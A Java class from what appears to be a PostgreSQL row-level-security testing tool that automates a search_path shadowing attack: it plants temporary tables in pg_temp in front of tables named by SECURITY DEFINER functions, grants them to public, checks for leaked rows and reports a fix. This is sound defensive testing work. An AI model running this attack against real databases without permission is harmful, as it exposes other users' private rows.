package dev.dbx.rls.attack;

import dev.dbx.core.catalog.Column;
import dev.dbx.core.catalog.Routine;
import dev.dbx.core.name.QualifiedName;
import dev.dbx.core.port.Trial;
import dev.dbx.core.sql.Sql;
import dev.dbx.rls.identity.SourceReader;
import dev.dbx.rls.matrix.Cell;
import dev.dbx.rls.matrix.Verdict;
import dev.dbx.rls.stage.OwnedTable;
import dev.dbx.rls.stage.Person;
import dev.dbx.rls.stage.RowLiteral;
import dev.dbx.rls.stage.SeededRow;
import dev.dbx.rls.stage.Slot;
import dev.dbx.rls.stage.Stage;
import dev.dbx.rls.stage.Whose;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * Puts a temporary table in front of one that a SECURITY DEFINER function names without a schema:
 * pg_temp is searched first (docs, CREATE FUNCTION, Writing SECURITY DEFINER Functions Safely).
 */
final class TempTables implements Attack {

  @Override
  public void run(Scene scene) {
    Optional<Person> me = scene.attacker().person();
    if (me.isEmpty()) {
      return;
    }
    Reach before = scene.reach();
    for (Routine routine : scene.stage().catalog().routines()) {
      boolean open =
          routine.securityDefiner()
              && routine.configuration().stream().noneMatch(it -> hasFixedPath(it));
      if (open) {
        String body = SourceReader.body(routine);
        for (OwnedTable table : scene.stage().tables()) {
          if (names(body, table)) {
            shadow(scene, before, routine, table, me.get());
          }
        }
      }
    }
  }

  /** A path that names pg_temp puts it where it says. */
  private static boolean hasFixedPath(String setting) {
    return setting.startsWith("search_path=")
        && (setting.contains("pg_temp")
            || setting.equals("search_path=\"\"")
            || setting.equals("search_path="));
  }

  private static boolean names(String body, OwnedTable table) {
    return body.matches(
        "(?is).*(from|join|update|into)\\s+"
            + Pattern.quote(table.name().name().value())
            + "\\b.*");
  }

  private static void shadow(
      Scene scene, Reach before, Routine routine, OwnedTable table, Person me) {
    Slot slot = table.isShared() ? Slot.of(Slot.Kind.SHARED, "everybody") : Slot.of(me);
    Optional<SeededRow> example = scene.stage().example(table, slot);
    if (example.isEmpty()) {
      return;
    }
    QualifiedName copy = QualifiedName.of("pg_temp", table.name().name().value());
    List<Sql> attack = new ArrayList<>();
    attack.add(
        Sql.of(
            "create temporary table {} as {}",
            table.name().name(),
            RowLiteral.of(table.relation(), column -> value(table, column, example.get(), me))));
    attack.add(Sql.of("grant all on {} to public", copy));
    scene.enter();
    Trial trial = scene.trial();
    for (Sql statement : attack) {
      if (!trial.run(statement).succeeded()) {
        return;
      }
    }
    Set<SeededRow> gained = Reach.now(scene).gained(before);
    if (!gained.isEmpty()) {
      SeededRow row = gained.iterator().next();
      Cell cell =
          scene.cell(
              routine.name(), "create_temporary_table", Whose.OTHER, Verdict.LEAK, "rows gained");
      attack.add(Stage.select(row.table(), scene.grants().readable(row.table())));
      scene.leak(
          "rls-search-path-shadowed",
          cell,
          "%s puts a temporary table %s in front of the one that %s reads, and then reads rows of %s in %s"
              .formatted(
                  scene.attacker().label(),
                  table.name().name().sql(),
                  routine.name().sql(),
                  row.slot().label(),
                  row.table().sql()),
          "ALTER FUNCTION %s(%s) SET search_path = '', and write schemas in its body"
              .formatted(routine.name().sql(), routine.identityArguments()),
          List.of(row),
          attack.toArray(Sql[]::new));
    }
  }

  /** All text columns name the attacker, as the likeliest to be asked for. */
  private static Optional<String> value(OwnedTable table, Column column, SeededRow row, Person me) {
    boolean text = column.type().startsWith("text") && table.isShared();
    return text ? Optional.of(me.user()) : row.value(column.name());
  }
}
